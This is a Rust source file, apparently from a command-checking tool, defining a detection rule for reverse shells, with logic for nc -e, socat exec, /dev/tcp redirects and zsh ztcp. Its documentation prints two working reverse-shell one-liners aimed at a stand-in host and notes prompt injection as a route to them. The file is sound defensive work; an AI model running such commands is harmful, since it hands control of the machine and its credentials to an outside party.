//! gate/reverse-shell (pipelines in `crate::analyze`, one-liners in `crate::interp`)
use crate::cmd::{Cmd, Out};
use vibeguard_core::Tier;

gate_rule! {
    /// ## What it does
    /// Flags commands that hand a shell to a network peer, in the usual forms: a shell
    /// whose input or output is redirected to `/dev/tcp/HOST/PORT` or `/dev/udp/...`,
    /// `exec N<>/dev/tcp/...`, `nc`/`ncat`/`netcat` with `-e`, `-c`, `--exec`,
    /// `--sh-exec` (bind or reverse), `socat` joining `exec:`/`system:` to a socket,
    /// a pipeline (often through `mkfifo`/`mknod`) that connects a shell and a network
    /// client (`nc`, `ncat`, `telnet`, `openssl s_client`, `socat`), zsh's `ztcp`,
    /// gawk's `/inet/tcp`, and Python, Perl, Ruby, PHP or Node one-liners that open a
    /// socket and attach a shell or process to it.
    ///
    /// ## Why is this bad?
    /// Whoever listens on the other end gets an interactive shell with the developer's
    /// permissions, keys and network access. It is the classic first step after a
    /// prompt injection.
    ///
    /// ## Example
    /// ```text
    /// bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
    /// nc -e /bin/sh 203.0.113.7 4444
    /// ```
    ///
    /// ## Use instead
    /// Nothing in development needs it. To check that a port is open use `nc -z HOST
    /// PORT`; to reach a remote machine use `ssh`.
    ReverseShell {
        id: "gate/reverse-shell",
        title: "Shell handed to a network peer",
        tier: High,
        cwe: [506],
    }
}

pub fn report(out: &mut Out, what: &str) {
    out.add(
        ReverseShell::ID,
        Tier::High,
        format!("{what} gives a shell on this machine to whoever is at the other end of a network connection"),
        "do not open shells over the network; use ssh to reach remote machines and nc -z to test ports",
    );
}

/// Network clients that can carry a shell's input and output.
pub fn is_network_client(name: &str, args: &[crate::words::Word]) -> bool {
    match name {
        // `nc -z` only tests whether a port is open
        "nc" | "ncat" | "netcat" | "telnet" | "socat" | "cryptcat" | "pwncat" => !args
            .iter()
            .any(|a| a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('z')),
        "openssl" => args.first().is_some_and(|a| a.text == "s_client"),
        _ => false,
    }
}

/// `HOST` of `/dev/tcp/HOST/PORT`, when a path names a socket.
pub fn dev_socket_host(path: &str) -> Option<&str> {
    let rest = path
        .strip_prefix("/dev/tcp/")
        .or_else(|| path.strip_prefix("/dev/udp/"))?;
    Some(rest.split('/').next().unwrap_or(""))
}

pub fn is_loopback_host(host: &str) -> bool {
    let h = host.trim_matches(['[', ']']).to_ascii_lowercase();
    h == "localhost"
        || h.ends_with(".localhost")
        || h.starts_with("127.")
        || h == "::1"
        || h == "0.0.0.0"
}

pub fn check(c: &Cmd, out: &mut Out) {
    match c.name {
        "nc" | "ncat" | "netcat" | "cryptcat" => {
            let exec = c.strs().any(|a| {
                matches!(a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                    || a.starts_with("--exec=")
                    || a.starts_with("--sh-exec=")
                    || a.starts_with("--lua-exec=")
            });
            if exec {
                report(out, &format!("{} -e", c.name));
            }
        }
        "socat" => {
            let lower: Vec<String> = c.strs().map(|a| a.to_ascii_lowercase()).collect();
            let runs = lower
                .iter()
                .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
            let net = lower.iter().any(|a| {
                ["tcp", "udp", "openssl", "ssl", "sctp"]
                    .iter()
                    .any(|p| a.starts_with(p))
            });
            if runs && net {
                report(out, "socat exec:/system: joined to a socket");
            }
        }
        "ztcp"
            if c.positionals()
                .first()
                .is_some_and(|h| !is_loopback_host(&h.text) && !h.text.starts_with('-')) =>
        {
            report(out, "zsh ztcp");
        }
        _ => {}
    }
}
